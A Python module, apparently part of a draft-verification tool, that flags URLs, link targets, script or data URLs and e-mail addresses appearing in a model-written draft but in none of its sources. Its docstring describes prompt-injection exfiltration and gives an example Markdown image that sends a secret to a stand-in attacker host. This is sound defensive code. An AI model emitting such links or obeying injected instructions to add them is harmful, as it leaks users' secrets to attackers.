"""Links and e-mail addresses in a draft that no source contains: the way a prompt-injected model
smuggles data out (``![](https://evil.example/?q=<secret>)``) or sends readers elsewhere.

Looked for: ``http(s)://``, ``ftp://`` and ``www.`` URLs, ``javascript:``/``data:``/``vbscript:``
URLs (always flagged: no source can make them safe), the targets of Markdown links and images
and of HTML ``href``/``src`` attributes, and e-mail addresses. A URL is grounded when a source
contains it verbatim (ignoring case and a trailing slash); an extra query
string or path is not grounded.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

from zhimei.desk.verify.findings import Finding
from zhimei.desk.verify.pii import EMAIL

__all__ = ["find_links", "link_spans"]

_STOP = r"\s<>\"'`\\\]\[(){}，。、！？；：（）【】《》“”‘’"
_URL = re.compile(
    rf"(?i)(?<![A-Za-z0-9@.])(?:(?:https?|ftp)://|www\.)[^{_STOP}]+(?:\([^{_STOP}]*\)[^{_STOP}]*)*"
)
_SCRIPT = re.compile(r"(?i)(?<![A-Za-z0-9])(?:javascript|vbscript|data):[^\s<>\"'`]+")
_TARGET = re.compile(
    r"""(?i)(?:\]\(\s*<?|\b(?:href|src|srcset|action|formaction)\s*=\s*["']?)(?P<t>[^\s"'<>)]+)"""
)
_TRAILING = ".,;:!?'\"。，；：！？"


def _norm(url: str) -> str:
    m = re.match(r"(?i)([a-z][a-z0-9+.-]*://)?([^/?#]*)(.*)", url)
    assert m is not None  # the pattern matches every string
    scheme, host, rest = (m.group(1) or "").lower(), m.group(2).lower(), m.group(3)
    return (scheme + host + rest).rstrip("/")


def _candidates(draft: str) -> Iterator[tuple[int, int, str]]:
    for m in _URL.finditer(draft):
        url = m.group().rstrip(_TRAILING)
        yield m.start(), m.start() + len(url), "url"
    for m in _SCRIPT.finditer(draft):
        yield m.start(), m.end(), "script"
    for m in _TARGET.finditer(draft):
        url = m.group("t").rstrip(_TRAILING)
        if url and not _SCRIPT.match(url):  # script URLs are the script pattern's, whole
            yield m.start("t"), m.start("t") + len(url), "target"


def link_spans(draft: str) -> list[tuple[int, int]]:
    """Spans of every URL, link target and e-mail address in ``draft`` (grounded or not)."""
    spans = [(s, e) for s, e, _ in _candidates(draft)]
    spans.extend(m.span() for m in EMAIL.finditer(draft))
    return spans


def find_links(draft: str, sources: Sequence[str]) -> Iterator[Finding]:
    """One finding per URL, link target or e-mail address of ``draft`` that no source contains."""
    lowered = [s.lower() for s in sources]
    seen: set[tuple[int, int]] = set()
    for start, end, what in sorted(_candidates(draft)):
        if any(start < b and a < end for a, b in seen):
            continue  # a Markdown target that is also a plain URL: one flag
        seen.add((start, end))
        url = draft[start:end]
        if what != "script" and any(url.lower().rstrip("/") in low for low in lowered):
            continue
        detail = (
            "script or data URL: never publish it"
            if what == "script"
            else "link not in any source: check where it leads (a model may have been told to add it)"
        )
        yield Finding("link", "url", start, end, value=_norm(url), detail=detail, severity="error")
    for m in EMAIL.finditer(draft):
        if not any(m.group().lower() in low for low in lowered):
            yield Finding(
                "link",
                "email",
                *m.span(),
                value=m.group().lower(),
                detail="e-mail address not in any source: check who it reaches",
                severity="error",
            )
